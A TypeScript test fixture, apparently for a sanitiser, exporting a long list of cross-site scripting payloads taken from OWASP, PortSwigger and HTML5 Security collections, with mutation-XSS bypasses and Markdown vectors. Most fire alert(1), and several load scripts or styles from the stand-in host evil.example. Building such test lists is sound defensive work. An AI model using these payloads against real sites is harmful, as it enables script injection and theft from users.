/**
 * Known ways to smuggle a script into a page: those of the OWASP filter evasion collection, of PortSwigger's and of
 * HTML5 Security's, mutations that once passed well-kept sanitisers, and what is Markdown's own. Each opens a dialog
 * where it works.
 */
export const xssPayloads: readonly string[] = String.raw`
<script>alert(1)</script>
<SCRIPT>alert(1)</SCRIPT>
<script src="https://evil.example/x.js"></script>
<script src=//evil.example/x.js></script>
<script src=data:text/javascript,alert(1)></script>
<script/src=data:,alert(1)></script>
<script>alert(1)//
<script type="module">alert(1)</script>
<script type="text/held">alert(1)</script>
<script type="importmap">{"imports":{"x":"data:text/javascript,alert(1)"}}</script>
<script x>alert(1)</script y>
<scr<script>ipt>alert(1)</scr</script>ipt>
<<script>alert(1);//<</script>
<script>/*<script*/alert(1)</script>
</script><script>alert(1)</script>
"><script>alert(1)</script>
'><script>alert(1)</script>
--><script>alert(1)</script>
]]><script>alert(1)</script>
</title><script>alert(1)</script>
</textarea><script>alert(1)</script>
</style><script>alert(1)</script>
</noscript><script>alert(1)</script>
</template><script>alert(1)</script>
</xmp><script>alert(1)</script>
</iframe><script>alert(1)</script>
<!--<script>alert(1)</script>-->
<!--><script>alert(1)</script>-->
<!--[if gte IE 4]><script>alert(1)</script><![endif]-->
<!-- --!><script>alert(1)</script>
<?xml version="1.0"?><script>alert(1)</script>
<![CDATA[<script>alert(1)</script>]]>
<!DOCTYPE html><script>alert(1)</script>
<!ENTITY x "<script>alert(1)</script>">
<img src=x onerror=alert(1)>
<img src=x onerror="alert(1)">
<img src=x onerror='alert(1)'>
<img src=x onerror=alert&#40;1&#41;>
<img src=x onerror=&#x61;&#x6c;&#x65;&#x72;&#x74;(1)>
<img src=x oneonerrorrror=alert(1)>
<IMG SRC=x ONERROR=alert(1)>
<img/src/onerror=alert(1)>
<img src="x"onerror="alert(1)">
<img src=x:x onerror=alert(1)//
<img	src=x	onerror=alert(1)>
<img src=/media/posts/x.png onload=alert(1)>
<img src="javascript:alert(1)">
<img src="jav	ascript:alert(1)">
<img src="jav&#x09;ascript:alert(1)">
<img src="jav&#x0A;ascript:alert(1)">
<img src=" &#14; javascript:alert(1)">
<img src="vbscript:msgbox(1)">
<img src="livescript:alert(1)">
<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>">
<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">
<img srcset="x 1x" onerror=alert(1)>
<img srcset=javascript:alert(1)>
<img dynsrc="javascript:alert(1)">
<img lowsrc="javascript:alert(1)">
<img src=x onerror=eval(atob('YWxlcnQoMSk='))>
<img src=x onerror=top[8680439..toString(30)](1)>
<img src=x onerror=window['al'+'ert'](1)>
<img src=x onerror="alert\x601\x60">
<img src=x style="xss:expression(alert(1))">
<img """><script>alert(1)</script>">
<image src=x onerror=alert(1)>
<image xlink:href=x onerror=alert(1)>
<picture><source srcset=x><img onerror=alert(1) src=x></picture>
<svg onload=alert(1)>
<svg/onload=alert(1)>
<svg onload=alert(1)//
<svg><script>alert(1)</script></svg>
<svg><script>alert&#40;1&#41;</script></svg>
<svg><script href=data:,alert(1) /></svg>
<svg><script xlink:href="data:,alert(1)"></script></svg>
<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>x</text></a></svg>
<svg><a href="javascript:alert(1)"><rect width=99 height=99 /></a></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><animate attributeName=href values=javascript:alert(1) />
<svg><set onbegin=alert(1) attributename=x>
<svg><set attributeName="onmouseover" to="alert(1)">
<svg><animateTransform onbegin=alert(1)>
<svg><animateMotion onend=alert(1) dur=1s>
<svg><discard onbegin=alert(1)>
<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>#x">
<svg><use xlink:href="#x" onload=alert(1)>
<svg><foreignObject><iframe onload=alert(1)></iframe></foreignObject></svg>
<svg><foreignObject><body onload=alert(1)></foreignObject></svg>
<svg><style>@import 'javascript:alert(1)';</style></svg>
<svg><style><img src=x onerror=alert(1)></style></svg>
<svg><title><img src=x onerror=alert(1)></title></svg>
<svg><desc><script>alert(1)</script></desc></svg>
<svg><image href=x onerror=alert(1)></svg>
<svg><g onload=alert(1)></g></svg>
<svg><p><style><img src="</style><img src=x onerror=alert(1)>">
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<math><mtext><table><mglyph><style><math><table id="</table>"><img src onerror=alert(1)">
<math><mi//xlink:href="data:x,<script>alert(1)</script>">
<math href="javascript:alert(1)">x</math>
<math><maction actiontype="statusline#http://x" xlink:href="javascript:alert(1)">x</maction></math>
<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>
<math><mtext><img src=x onerror=alert(1)></mtext></math>
<math></p><style><!--</style><img src/onerror=alert(1)>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<noscript><style></noscript><img src=x onerror=alert(1)></style>
<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>
<noframes><img title="</noframes><img src=x onerror=alert(1)>"></noframes>
<xmp><img title="</xmp><img src=x onerror=alert(1)>"></xmp>
<textarea><img title="</textarea><img src=x onerror=alert(1)>">
<title><img title="</title><img src=x onerror=alert(1)>">
<template><script>alert(1)</script></template>
<template shadowrootmode=open><img src=x onerror=alert(1)></template>
<listing>&lt;img src=x onerror=alert(1)&gt;</listing>
<plaintext><img src=x onerror=alert(1)>
<select><template><style><!--</style><a rel="--></style></template></select><img id=x src onerror=alert(1)>
<select><iframe><select><img src=x onerror=alert(1)></select>
<table><tr><td background="javascript:alert(1)">x</td></tr></table>
<table background="javascript:alert(1)"><tr><td>x</td></tr></table>
<table><caption><svg onload=alert(1)></caption></table>
<table><img src=x onerror=alert(1)></table>
<a href="javascript:alert(1)">x</a>
<a href="JaVaScRiPt:alert(1)">x</a>
<a href=" javascript:alert(1)">x</a>
<a href="&#1;javascript:alert(1)">x</a>
<a href="java&Tab;script:alert(1)">x</a>
<a href="java&NewLine;script:alert(1)">x</a>
<a href="javascript&colon;alert(1)">x</a>
<a href="javascript&#58;alert(1)">x</a>
<a href="javascript&#x3A;alert(1)">x</a>
<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>
<a href="javascript:%61lert(1)">x</a>
<a href="javascript://https://example.com/%0aalert(1)">x</a>
<a href="data:text/html,<script>alert(1)</script>">x</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>
<a href="vbscript:msgbox(1)">x</a>
<a href="blob:https://example.com/x">x</a>
<a href="filesystem:https://example.com/x">x</a>
<a href="view-source:javascript:alert(1)">x</a>
<a href="feed:javascript:alert(1)">x</a>
<a href=x onclick=alert(1)>x</a>
<a href=x onmouseover=alert(1)>x</a>
<a onfocus=alert(1) tabindex=0 autofocus>x</a>
<a ping="https://evil.example/" href="https://example.com">x</a>
<a target=_blank rel=opener href="https://evil.example/">x</a>
<a style="position:fixed;inset:0" href="https://evil.example/">x</a>
<area href="javascript:alert(1)" coords="0,0,99,99" shape=rect>
<map name=x><area href=javascript:alert(1)></map><img usemap=#x>
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>
<iframe onload=alert(1)></iframe>
<iframe src="data:text/html,<script>alert(1)</script>"></iframe>
<iframe src=//evil.example></iframe>
<frameset onload=alert(1)><frame src="javascript:alert(1)"></frameset>
<object data="javascript:alert(1)"></object>
<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>
<object type="text/x-scriptlet" data="https://evil.example/x.html"></object>
<object><param name=src value="javascript:alert(1)"></object>
<object onerror=alert(1) data=x></object>
<embed src="javascript:alert(1)">
<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+" type="image/svg+xml">
<embed code="https://evil.example/x.swf" allowscriptaccess=always>
<applet code="javascript:alert(1)"></applet>
<portal src="javascript:alert(1)"></portal>
<base href="javascript:alert(1)//">
<base href="https://evil.example/">
<link rel=stylesheet href="javascript:alert(1)">
<link rel=stylesheet href="https://evil.example/x.css">
<link rel=import href="data:text/html,<script>alert(1)</script>">
<link rel=preload as=script href="https://evil.example/x.js" onload=alert(1)>
<meta http-equiv=refresh content="0;url=javascript:alert(1)">
<meta http-equiv=refresh content="0;url=data:text/html,<script>alert(1)</script>">
<meta http-equiv=refresh content="0;url=https://evil.example/">
<meta http-equiv=Set-Cookie content="a=<script>alert(1)</script>">
<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-
<style>@import "javascript:alert(1)";</style>
<style>body{background:url(javascript:alert(1))}</style>
<style>*{-moz-binding:url(https://evil.example/x.xml#x)}</style>
<style>body{-webkit-animation:x}@keyframes x{}</style><b onanimationstart=alert(1)>x</b>
<style><!--</style><script>alert(1)//--></script>
<div style="width:expression(alert(1))">x</div>
<div style="background:url(javascript:alert(1))">x</div>
<div style="behavior:url(https://evil.example/x.htc)">x</div>
<xss style="xss:expression(alert(1))">
<body onload=alert(1)>
<body background="javascript:alert(1)">
<body onpageshow=alert(1)>
<body onhashchange=alert(1)><a href=#x>x</a>
<html onmousemove=alert(1)>
<head onload=alert(1)>
<input autofocus onfocus=alert(1)>
<input type=image src=x onerror=alert(1)>
<input type=image formaction=javascript:alert(1)>
<input type=hidden popover id=x onbeforetoggle=alert(1)><button popovertarget=x>x</button>
<input value=x onblur=alert(1) autofocus>
<button onclick=alert(1)>x</button>
<button form=x formaction="javascript:alert(1)">x</button>
<form action="javascript:alert(1)"><input type=submit></form>
<form><button formaction=javascript:alert(1)>x</button></form>
<form id=x></form><button form=x formaction="javascript:alert(1)">x</button>
<form action=https://evil.example/><input name=email></form>
<isindex action="javascript:alert(1)" type=image>
<keygen autofocus onfocus=alert(1)>
<select autofocus onfocus=alert(1)></select>
<textarea autofocus onfocus=alert(1)></textarea>
<video src=x onerror=alert(1)></video>
<video><source onerror=alert(1)></video>
<video poster=javascript:alert(1)></video>
<video onloadstart=alert(1) src=x></video>
<audio src=x onerror=alert(1)></audio>
<audio><source src=x onerror=alert(1)></audio>
<track default src=x onerror=alert(1)>
<details open ontoggle=alert(1)>x</details>
<details ontoggle=alert(1) open><summary onclick=alert(1)>x</summary></details>
<dialog open onclose=alert(1)>x</dialog>
<marquee onstart=alert(1)>x</marquee>
<marquee loop=1 width=0 onfinish=alert(1)>x</marquee>
<bgsound src="javascript:alert(1)">
<layer src="https://evil.example/x.js"></layer>
<b onmouseover=alert(1)>x</b>
<p onpointerenter=alert(1)>x</p>
<div onwheel=alert(1) oncontextmenu=alert(1)>x</div>
<div contenteditable onbeforeinput=alert(1)>x</div>
<div draggable=true ondragstart=alert(1)>x</div>
<div ontransitionend=alert(1) style="transition:1s">x</div>
<x onclick=alert(1) contenteditable>x</x>
<custom-element onconnected=alert(1)>x</custom-element>
<a is=x-y onclick=alert(1)>x</a>
<p id=main><p id=__proto__><a id=constructor href=x>x</a>
<form name=body><input name=firstChild></form><img name=getElementById>
<a id=defaultView></a><a id=defaultView name=location href="javascript:alert(1)">x</a>
<div data-fact="<script>alert(1)</script>">x</div>
<div data-callout="note" data-title="<img src=x onerror=alert(1)>">x</div>
<div data-callout=note onclick=alert(1)>x</div>
<span data-fact="x" onmouseover=alert(1)>x</span>
<section data-footnotes onclick=alert(1)><h2>x</h2></section>
<code class="language-x&quot; onclick=alert(1)">x</code>
[x](javascript:alert(1))
[x](JaVaScRiPt:alert(1))
[x](&#106;avascript:alert(1))
[x](javascript&colon;alert(1))
[x](<javascript:alert(1)>)
[x](<java script:alert(1)>)
[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
[x](vbscript:alert(1))
[x](/x"onmouseover="alert(1))
[x](/x 'x" onmouseover="alert(1)')
[x][js]
<javascript:alert(1)>
![x](javascript:alert(1))
![x"onerror="alert(1)](/media/posts/x.png)
![x](/media/posts/x.png"onerror="alert(1))
![x](https://evil.example/x.png "x\" onerror=\"alert(1)")
**<img src=x onerror=alert(1)>**
## <img src=x onerror=alert(1)>
> <script>alert(1)</script>
| <script>alert(1)</script> |
:fact[<img src=x onerror=alert(1)>]
::fact[<script>alert(1)</script>]
:note[x]{onclick=alert(1)}
::x[y]{onclick="alert(1)" style="color:red"}
`
  .split('\n')
  .filter((line) => line.trim() !== '')
